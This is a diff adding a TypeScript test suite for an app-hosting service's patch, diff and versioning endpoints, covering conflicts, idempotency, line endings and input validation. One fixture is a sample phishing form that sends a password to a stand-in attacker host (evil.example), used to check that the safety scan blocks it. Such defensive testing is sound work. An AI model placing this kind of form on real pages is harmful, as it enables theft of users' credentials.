@@ -1,0 +1,203 @@
+import { expect, test } from 'bun:test'
+
+import { startTestServer } from '../../testing/fixtures/test-server.ts'
+import { pauseMethod } from '../../testing/pause-method.ts'
+import { createPatch } from './diff.ts'
+
+const lines = Array.from({ length: 4_000 }, (_, at) => `<p id="p${at}">Line ${at}</p>`)
+const long = `<!doctype html><title>Long</title>\n${lines.join('\n')}\n`
+
+/** A form that the safety check blocks. */
+const phishing =
+  '<form action="https://evil.example/steal"><p>Sign in to your bank</p><input type=password></form>'
+
+const diffOf = (before: string, after: string, path = 'index.html'): string =>
+  createPatch(path, before, after)?.text ?? ''
+
+test('edits change lines of a page without sending the page', async () => {
+  const { request, agent, close } = await startTestServer()
+  const ann = await agent('ann')
+  const id = await ann.publish({ html: long })
+  const search = lines.slice(100, 120).join('\n')
+  const body = { note: 'shout', patch: { edits: [{ search, replace: search.toUpperCase() }] } }
+  expect(JSON.stringify(body).length).toBeLessThan(2_000)
+
+  const dry = await ann.call('POST', `/apps/${id}/versions`, { ...body, dryRun: true })
+  expect(dry).toMatchObject({ status: 200, body: { scan: { verdict: 'clean' } } })
+  const made = await ann.call('POST', `/apps/${id}/versions`, body)
+  expect(made).toMatchObject({ status: 201, body: { app: { id, version: 2 } } })
+  const page = (await request('GET', `/a/${id}/data`)).body
+  expect(page).toBe(long.replace(search, search.toUpperCase()))
+  await close()
+})
+
+test('the diff of two versions is a patch of the first', async () => {
+  const { agent, close } = await startTestServer()
+  const ann = await agent('ann')
+  const after = lines.toSpliced(10, 1).toSpliced(2_000, 0, '<p>new</p>').toSpliced(3_500, 2, '<b>')
+  const changed = `<!doctype html><title>Long</title>\n${after.join('\n')}`
+  const id = await ann.publish({ html: long })
+  await ann.call('POST', `/apps/${id}/versions`, { html: changed })
+
+  const diff = await ann.call('GET', `/apps/${id}/diff`)
+  expect(diff).toMatchObject({
+    status: 200,
+    body: {
+      base: 1,
+      version: 2,
+      files: [{ path: 'index.html', change: 'changed', added: 3, removed: 4 }],
+    },
+  })
+  const text = diff.text('files.0.diff')
+  await ann.call('POST', `/apps/${id}/versions/1/restore`)
+  const made = await ann.call('POST', `/apps/${id}/versions`, { patch: { version: 3, diff: text } })
+  expect(made).toMatchObject({ status: 201, body: { app: { version: 4 } } })
+  expect((await ann.call('GET', `/apps/${id}/html`)).body).toBe(changed)
+  const same = await ann.call('GET', `/apps/${id}/diff?base=2&version=4`)
+  expect(same.body).toEqual({ base: 2, version: 4, files: [] })
+  await close()
+})
+
+test('a patch changes files of a folder, and a diff compares all files', async () => {
+  const { agent, close } = await startTestServer()
+  const ann = await agent('ann')
+  const script = 'const a = 1\nconst b = 2\n'
+  const files = [
+    { path: 'app/index.html', text: '<title>Folder</title><script src="main.js"></script>' },
+    { path: 'app/main.js', text: script },
+    { path: 'app/old.css', text: 'b { color: red }' },
+  ]
+  const id = await ann.publish({ html: undefined, files })
+  const diff =
+    diffOf(script, script.replace('2', '3'), 'main.js') +
+    diffOf('<title>Folder</title>', '<title>Folders</title>')
+  const wrong = await ann.call('POST', `/apps/${id}/versions`, { patch: { diff } })
+  expect(wrong).toMatchObject({ status: 409, code: 'patch_conflict', body: { file: 'index.html' } })
+
+  const edits = [
+    { file: 'main.js', search: 'b = 2', replace: 'b = 3' },
+    { search: 'Folder', replace: 'Folders' },
+  ]
+  const made = await ann.call('POST', `/apps/${id}/versions`, { patch: { edits } })
+  expect(made.status).toBe(201)
+  const { body } = await ann.call('GET', `/apps/${id}/diff`)
+  expect(body).toMatchObject({
+    files: [
+      { path: 'index.html', added: 1, removed: 1 },
+      { path: 'main.js', diff: diffOf(script, script.replace('2', '3'), 'main.js') },
+    ],
+  })
+  const unknown = { edits: [{ file: 'nope.js', search: 'b', replace: 'c' }] }
+  const missing = await ann.call('POST', `/apps/${id}/versions`, { patch: unknown })
+  expect(missing).toMatchObject({ status: 400, code: 'bad_request' })
+  expect(missing.text('error')).toContain('It has index.html, main.js, old.css.')
+  await close()
+})
+
+test('patch_conflict names the nearest text and stores nothing', async () => {
+  const { agent, close } = await startTestServer()
+  const ann = await agent('ann')
+  const id = await ann.publish({ html: long })
+  const patch = (edits: object[]) => ann.call('POST', `/apps/${id}/versions`, { patch: { edits } })
+  const first = { search: 'Line 7<', replace: 'Row 7<' }
+
+  const gone = { search: `${lines[41]}\n<p id="p42">Row 42</p>\n${lines[43]}`, replace: '' }
+  const near = await patch([first, gone])
+  expect(near).toMatchObject({
+    status: 409,
+    code: 'patch_conflict',
+    body: { version: 1, file: 'index.html', change: 2, line: 43 },
+  })
+  expect(near.text('nearest')).toContain('Line 42')
+  expect(near.text('error')).toContain('Nothing was stored.')
+  const word = await patch([{ search: 'Line 99 </p>', replace: '' }])
+  expect(word).toMatchObject({ status: 409, body: { line: 101 } })
+  const twice = await patch([{ search: '<p id="p1', replace: '' }])
+  expect(twice.text('error')).toContain('occurs several times')
+  const none = await patch([{ search: '§§', replace: '' }])
+  expect(none).toMatchObject({ status: 409, body: { line: 0, nearest: '' } })
+  const diff = diffOf('a\nb\nc\n', 'a\nx\nc\n')
+  const hunk = await ann.call('POST', `/apps/${id}/versions`, { patch: { diff } })
+  expect(hunk).toMatchObject({ status: 409, code: 'patch_conflict' })
+  expect((await ann.call('GET', `/apps/${id}`)).body).toMatchObject({ app: { version: 1 } })
+  await close()
+})
+
+test('a patch of a version that was replaced is a conflict', async () => {
+  const { ctx, agent, close } = await startTestServer()
+  const ann = await agent('ann')
+  const id = await ann.publish({ html: long })
+  const patch = (version: number, search: string) =>
+    ann.call('POST', `/apps/${id}/versions`, {
+      patch: { version, edits: [{ search, replace: 'new' }] },
+    })
+  expect((await patch(1, 'Line 1<')).status).toBe(201)
+  const late = await patch(1, 'Line 2<')
+  expect(late).toMatchObject({ status: 409, code: 'patch_conflict', body: { version: 2 } })
+  expect(late.text('error')).toContain('diff?base=1&version=2')
+  expect((await patch(9, 'Line 2<')).code).toBe('not_found')
+
+  const paused = pauseMethod(ctx.storage, 'put', 2)
+  const both = Promise.all([patch(2, 'Line 3<'), patch(2, 'Line 4<')])
+  await paused.begun
+  paused.go()
+  expect((await both).map(({ status }) => status).sort()).toEqual([201, 409])
+  expect((await ann.call('GET', `/apps/${id}`)).body).toMatchObject({ app: { version: 3 } })
+  await close()
+})
+
+test('a repeated patch with one ref makes one version', async () => {
+  const { agent, close } = await startTestServer()
+  const ann = await agent('ann')
+  const id = await ann.publish({ html: long })
+  const body = { ref: 'patch-0001', patch: { edits: [{ search: 'Line 5<', replace: 'X<' }] } }
+  const first = await ann.call('POST', `/apps/${id}/versions`, body)
+  expect(first.status).toBe(201)
+  expect((await ann.call('POST', `/apps/${id}/versions`, body)).body).toEqual(first.body)
+  const other = { ...body, patch: { edits: [{ search: 'Line 6<', replace: 'X<' }] } }
+  expect((await ann.call('POST', `/apps/${id}/versions`, other)).code).toBe('ref_conflict')
+  await close()
+})
+
+test('line ends of the page stay', async () => {
+  const { agent, close } = await startTestServer()
+  const ann = await agent('ann')
+  const id = await ann.publish({ html: '<title>W</title>\r\n<p>one</p>\r\n<p>two</p>\r\n' })
+  const edits = [{ search: '<p>one</p>\n<p>two', replace: '<p>1</p>\n<p>2' }]
+  expect((await ann.call('POST', `/apps/${id}/versions`, { patch: { edits } })).status).toBe(201)
+  const { body } = await ann.call('GET', `/apps/${id}/html`)
+  expect(body).toBe('<title>W</title>\r\n<p>1</p>\r\n<p>2</p>\r\n')
+  await close()
+})
+
+test('rejects invalid patches, foreign apps and pages that the safety check blocks', async () => {
+  const { request, agent, close } = await startTestServer()
+  const [ann, ben] = [await agent('ann'), await agent('ben')]
+  const id = await ann.publish({ html: long })
+  const edits = [{ search: 'Line 5<', replace: 'X<' }]
+  const path = `/apps/${id}/versions`
+  const bad: unknown[] = [
+    {},
+    { edits: [] },
+    { edits, diff: '@@' },
+    { diff: 'no diff' },
+    { diff: '--- a\n+++ b\n@@ -1,9 +1,9 @@\n-x\n' },
+    { edits: [{ search: '', replace: '' }] },
+    { edits, more: 1 },
+    { version: 0, edits },
+  ]
+  for (const patch of bad) {
+    const { status, code } = await ann.call('POST', path, { patch })
+    expect([patch, status, code]).toEqual([patch, 400, 'bad_request'])
+  }
+  expect((await ann.call('POST', path, { patch: { edits }, html: long })).code).toBe('bad_request')
+  expect((await ben.call('POST', path, { patch: { edits } })).code).toBe('not_found')
+  expect((await ben.call('GET', `/apps/${id}/diff`)).code).toBe('not_found')
+  expect((await request('POST', `/api${path}`, { body: { patch: { edits } } })).status).toBe(401)
+  expect((await ann.call('GET', `/apps/${id}/diff?base=1&version=7`)).code).toBe('not_found')
+  expect((await ann.call('GET', `/apps/${id}/diff?base=x`)).code).toBe('bad_request')
+  const attack = { edits: [{ search: 'Line 5<', replace: `${phishing}<` }] }
+  expect((await ann.call('POST', path, { patch: attack })).code).toBe('blocked_by_scan')
+  expect((await ann.call('GET', `/apps/${id}`)).body).toMatchObject({ app: { version: 1 } })
+  await close()
+})
